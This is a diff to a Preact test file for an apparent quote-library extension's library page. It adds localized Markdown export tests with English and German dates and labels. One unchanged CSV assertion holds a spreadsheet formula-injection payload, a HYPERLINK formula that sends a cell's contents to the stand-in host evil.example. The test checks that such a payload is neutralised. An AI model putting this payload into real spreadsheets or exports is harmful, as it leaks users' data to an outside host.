@@ -3,7 +3,7 @@
 // handlers (tests/helpers/background.ts): search narrows, filters, edit, delete and undo, bulk
 // delete, live updates from another connection, export formats, and an export → clear → import
 // round trip that restores the library exactly.
-import { cleanup, fireEvent, render, screen, waitFor, within } from '@testing-library/preact';
+import { cleanup, fireEvent, screen, waitFor, within } from '@testing-library/preact';
 import { readFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -17,10 +17,19 @@ import { saveQuote } from '../../../lib/store/quotes';
 import { dump, emptyDb, sampleDb, UKRAINE } from '../../unit/export/sample';
 import { backgroundFor } from '../../helpers/background';
 import { expectNoAxeViolations } from '../../components/library/helpers';
+import { en, renderT, translator, type Lang } from '../../helpers/i18n';
+import type { Translator } from '../../../components/i18n';
 
 // A path, not a URL: under happy-dom `URL` is the DOM's, which node:fs does not accept.
 const EXPECTED_MD = readFileSync(join(dirname(fileURLToPath(import.meta.url)), '../../fixtures/library/expected-export.md'), 'utf8');
 const NOW = Date.UTC(2024, 0, 3, 8);
+const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+
+/** The expected file (the lib's fixed English dates, "Tue 2 Jan 2024, 13:30") with each date as `i18n` writes it in UTC. */
+const datesAs = (md: string, i18n: Translator) =>
+  md.replace(/\b[A-Z][a-z]{2} (\d{1,2}) ([A-Z][a-z]{2}) (\d{4}), (\d{2}):(\d{2})/g, (_m, d: string, mon: string, y: string, h: string, min: string) =>
+    i18n.dateTime(Date.UTC(Number(y), MONTHS.indexOf(mon), Number(d), Number(h), Number(min)), 'UTC'),
+  );
 
 let factory: IDBFactory;
 let db: LensDb;
@@ -40,9 +49,9 @@ afterEach(() => {
   db.close();
 });
 
-async function mount(undoMs?: number) {
-  const view = render(<LibraryContainer db={db} send={backgroundFor(db)} now={() => NOW} timeZone="UTC" onDownload={(f) => downloads.push(f)} undoMs={undoMs} />);
-  await screen.findByText('6 quotes');
+async function mount(undoMs?: number, lang: Lang = 'en') {
+  const view = renderT(<LibraryContainer db={db} send={backgroundFor(db)} now={() => NOW} timeZone="UTC" onDownload={(f) => downloads.push(f)} undoMs={undoMs} />, lang);
+  await screen.findByText(translator(lang).plural('library.status.quotes', 6));
   return view;
 }
 
@@ -52,8 +61,8 @@ function rows(): HTMLElement[] {
 }
 const rowTexts = () => rows().map((r) => r.querySelector('.lbl-text')?.textContent ?? '');
 
-function exportAs(scope: RegExp, format: 'Markdown' | 'CSV' | 'JSON'): ExportFile {
-  fireEvent.click(screen.getByText('Export / import'));
+function exportAs(scope: RegExp, format: 'Markdown' | 'CSV' | 'JSON', menu = 'Export / import'): ExportFile {
+  fireEvent.click(screen.getByText(menu));
   fireEvent.click(screen.getByRole('radio', { name: scope }));
   fireEvent.click(screen.getByRole('button', { name: format }));
   return downloads.at(-1)!;
@@ -159,11 +168,24 @@ describe('library page', () => {
   it('exports Markdown as in the expected file, and CSV with formula cells neutralised', async () => {
     await mount();
     const md = exportAs(/Everything/, 'Markdown');
-    expect(md.text).toBe(EXPECTED_MD);
+    // Dates as the reader's locale writes them (English here: "Jan 2, 2024, 1:30 PM").
+    expect(md.text).toMatch(/— Jan 2, 2024, 1:30\sPM · \[open entry\]/);
+    expect(md.text).toBe(datesAs(EXPECTED_MD, en()));
     expect(md.filename).toBe('liveblog-lens-2024-01-03.md');
     const csv = exportAs(/Shown/, 'CSV');
     expect(csv.text.split('\r\n')).toHaveLength(8); // header, 6 quotes, final newline
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
+  });
+
+  it('exports Markdown in the reader’s language: headings, labels and dates', async () => {
+    await mount(undefined, 'de');
+    const md = exportAs(/Alles/, 'Markdown', 'Export / Import').text;
+    expect(md.split('\n')[0]).toBe('# Liveblog Lens: 6 Zitate und 2 markierte Einträge');
+    expect(md).toContain('### Ohne Person');
+    expect(md).toContain('### Markierte Einträge');
+    expect(md).toContain('— gespeichert am 02.01.2024, 09:00 · [Eintrag öffnen](<https://www.bbc.co.uk/news/live/uk-politics-67000001>)');
+    expect(md).toContain('— 02.01.2024, 13:30 · [Eintrag öffnen]');
+    expect(md).not.toMatch(/open entry|Unattributed|Starred entries|saved /);
   });
 
   it('exports the selection only', async () => {
